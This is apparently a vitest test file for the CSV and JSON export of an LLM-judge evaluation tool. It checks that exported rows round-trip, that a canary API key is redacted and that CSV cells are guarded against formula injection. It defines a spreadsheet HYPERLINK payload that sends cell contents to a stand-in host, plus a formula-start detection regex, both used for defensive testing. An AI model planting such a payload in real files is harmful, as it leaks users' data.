import fs from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getRunResults, getRunSampleHistory } from "@/db/queries/runs";
import type { RunOptions, Sample } from "@/db/schema";
import { csvText } from "../csv";
import { loadSuite } from "../suites/load-suite";
import { settingsFor, tempDb, testRegistry, testSuite } from "../testing/fixtures";
import { type ScriptedServer, type ScriptRequest, startScriptedServer } from "../testing/scripted-server";
import { executeRun } from "./execute-run";
import { EXPORT_COLUMNS, type ExportRow, exportRun, runExportData, toCsv } from "./export";
import { createRun } from "./plan-run";
import { requeue, samplesToRetry } from "./requeue";

const CANARY = "sk-export-canary-9f8e7d6c5b4a3210";
/** A case name and a judge's reasoning that a spreadsheet would run as a formula, sending row cells away. */
const HOSTILE = '=HYPERLINK("http://x/?leak="&B3&C3,"Click")';
/** What a spreadsheet treats as a formula start (OWASP's CSV-injection list). */
const FORMULA_CELL = /^[=+\-@\t\r]/;
const saved = { key: process.env.OPENAI_API_KEY };
let server: ScriptedServer;
const { db } = tempDb();
let runId = "";

/**
 * Reasoning with quotes, commas, line breaks (LF and CRLF), edge spaces, a formula-looking start and a
 * key; model "flaky" answers prose to its first call of each prompt (a failed sample, then retried).
 */
function script() {
  const seen = new Set<string>();
  return (req: ScriptRequest) => {
    const k = `${req.model}\u0000${req.text}`;
    if (req.model === "flaky" && !seen.has(k)) {
      seen.add(k);
      return { text: 'not JSON, "quoted", and\nbroken' };
    }
    const tricky = [
      'He said "fine", then, after a pause,\nadded: "good".',
      "  leading and trailing spaces  ",
      "=SUM(A1:A2) looks like a formula, \r\n and a CRLF",
      `the key ${CANARY} must not leak`,
      HOSTILE,
      "+1 and -1, @mention, \ttab",
      "'=already quoted once",
    ];
    return { json: { score: 2 + (req.index % 3), reasoning: tricky[req.index % tricky.length] } };
  };
}

beforeAll(async () => {
  process.env.OPENAI_API_KEY = CANARY;
  server = await startScriptedServer(script());
  const { registry } = testRegistry();
  const settings = settingsFor(server.baseURL);
  const opts: RunOptions = {
    judges: ["local:ok", "local:flaky"],
    n: 2,
    temperature: 0.8,
    concurrency: 4,
    noCache: false,
  };
  const suite = testSuite(2);
  const case1 = path.join(suite, "cases", "case1.json");
  fs.writeFileSync(case1, JSON.stringify({ ...JSON.parse(fs.readFileSync(case1, "utf8")), name: HOSTILE }));
  runId = await createRun(db, loadSuite(suite), registry, opts);
  await executeRun(db, runId, { settings, registry });
  // one round of retries: the failed samples stay, marked, beside their replacements
  await requeue(db, runId, await samplesToRetry(db, runId), "retried");
  await executeRun(db, runId, { settings, registry });
}, 60_000);
afterAll(async () => {
  await server.close();
  if (saved.key === undefined) delete process.env.OPENAI_API_KEY;
  else process.env.OPENAI_API_KEY = saved.key;
});

/** What a stored sample must come back as, from either format. */
function expected(s: Sample, threshold: number, verdict: { finalScore: number | null; passed: boolean }) {
  const red = (t: string | null) => (t === null ? null : t.replaceAll(CANARY, "[redacted]"));
  const ok = s.score !== null && !s.error;
  return {
    run_id: runId,
    case_id: s.caseId,
    criterion_id: s.criterionId,
    judge: s.judge,
    sample_index: s.sampleIndex,
    sample_id: s.id,
    score: s.score,
    passed: ok ? (s.score as number) >= threshold : null,
    reasoning: red(s.reasoning),
    input_tokens: s.inputTokens,
    output_tokens: s.outputTokens,
    cost_usd: s.costUsd,
    latency_ms: s.latencyMs,
    attempts: s.attempts,
    cached: s.cached,
    error: red(s.error),
    superseded: s.supersededReason,
    verdict_score: verdict.finalScore,
    verdict_passed: verdict.passed,
  };
}

function stored() {
  const thresholds: Record<string, number> = { helpful: 6, brief: 2, short: 1 };
  const verdicts = new Map(getRunResults(db, { runId }).map((r) => [`${r.caseId}/${r.criterionId}`, r]));
  return getRunSampleHistory(db, { runId }).map((s) =>
    expected(s, thresholds[s.criterionId], verdicts.get(`${s.caseId}/${s.criterionId}`)!),
  );
}

/** A CSV row back to typed values: "" is null, numbers and booleans by column. */
function typed(row: Record<string, string>) {
  const num = (v: string) => (v === "" ? null : Number(v));
  const bool = (v: string) => (v === "" ? null : v === "true");
  const str = (v: string) => (v === "" ? null : csvText(v));
  return {
    run_id: row.run_id,
    case_id: row.case_id,
    criterion_id: row.criterion_id,
    judge: row.judge,
    sample_index: Number(row.sample_index),
    sample_id: Number(row.sample_id),
    score: num(row.score),
    passed: bool(row.passed),
    reasoning: str(row.reasoning),
    input_tokens: Number(row.input_tokens),
    output_tokens: Number(row.output_tokens),
    cost_usd: Number(row.cost_usd),
    latency_ms: Number(row.latency_ms),
    attempts: Number(row.attempts),
    cached: row.cached === "true",
    error: str(row.error),
    superseded: str(row.superseded),
    verdict_score: num(row.verdict_score),
    verdict_passed: bool(row.verdict_passed),
  };
}

describe("run export", () => {
  it("the data is what the run holds: every sample, superseded ones marked, with a reasoning that needs quoting", () => {
    const want = stored();
    // 2 cases × (2 llm criteria × 2 judges × 2 samples + 1 check), plus the 4 failed ones kept
    expect(want).toHaveLength(2 * (2 * 2 * 2 + 1) + 4);
    expect(want.filter((r) => r.superseded === "retried")).toHaveLength(4);
    expect(want.some((r) => r.reasoning?.includes('"fine", then, after a pause,\n'))).toBe(true);
    expect(want.some((r) => r.reasoning?.includes("\r\n"))).toBe(true);
    expect(want.some((r) => r.error?.includes("not JSON") || r.error?.includes("JSON"))).toBe(true);
  });

  it("CSV parses back (a real RFC 4180 parse: quotes, commas, line breaks, edge spaces) to the stored samples", async () => {
    const out = await exportRun(db, runId, "csv");
    expect(out.contentType).toMatch(/^text\/csv/);
    const rows = parse(out.body, {
      columns: true,
      skip_empty_lines: false,
      relax_column_count: false,
    }) as Record<string, string>[];
    expect(Object.keys(rows[0])).toEqual([...EXPORT_COLUMNS]);
    const back = rows.map(typed);
    expect(back).toEqual(stored());
    expect(out.body).not.toContain(CANARY);
    expect(out.body).toContain("[redacted]");
    expect(new Set(rows.map((r) => csvText(r.case_name)))).toEqual(new Set(["Case 0", HOSTILE]));
  });

  it("no text cell starts a formula (OWASP's CSV-injection guard); numbers stay numbers", async () => {
    const body = (await exportRun(db, runId, "csv")).body;
    const rows = parse(body, { columns: true }) as Record<string, string>[];
    for (const r of rows)
      for (const [k, v] of Object.entries(r)) expect(v, `${k}: ${v}`).not.toMatch(FORMULA_CELL);
    // the hostile case name and reasoning are inert text: a quote before them, the field quoted
    const inert = `"'${HOSTILE.replaceAll('"', '""')}"`;
    expect(body.split(inert).length - 1).toBe(
      rows.filter((r) => r.case_name === `'${HOSTILE}`).length +
        rows.filter((r) => r.reasoning === `'${HOSTILE}`).length,
    );
    expect(rows.some((r) => r.case_name === `'${HOSTILE}`)).toBe(true);
    expect(rows.some((r) => r.reasoning === `'${HOSTILE}`)).toBe(true);
    expect(rows.some((r) => r.reasoning === "''=already quoted once")).toBe(true);
    expect(body).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it("JSON parses back to the same rows, with the run it came from", async () => {
    const out = await exportRun(db, runId, "json");
    const data = JSON.parse(out.body) as {
      run: { id: string; judges: string[]; n: number };
      samples: ExportRow[];
    };
    expect(data.run).toMatchObject({ id: runId, judges: ["local:ok", "local:flaky"], n: 2 });
    expect(data.samples.map(({ case_name: _n, threshold: _t, ...r }) => r)).toEqual(stored());
    // JSON is not a spreadsheet format: its text is exact, never guarded
    expect(data.samples.some((r) => r.case_name === HOSTILE && r.reasoning === HOSTILE)).toBe(true);
    expect(out.body).not.toContain(CANARY);
    // CSV and JSON hold the same table
    const csv = parse((await exportRun(db, runId, "csv")).body, { columns: true }) as Record<
      string,
      string
    >[];
    expect(csv.map(typed)).toEqual(data.samples.map(({ case_name: _n, threshold: _t, ...r }) => r));
  });

  it("an empty run exports a header only; an unknown run is not_found", async () => {
    expect(toCsv([])).toBe(`${EXPORT_COLUMNS.join(",")}\r\n`);
    await expect(runExportData(db, "run_20200101_00000000")).rejects.toThrow(/No run with id/);
  });
});
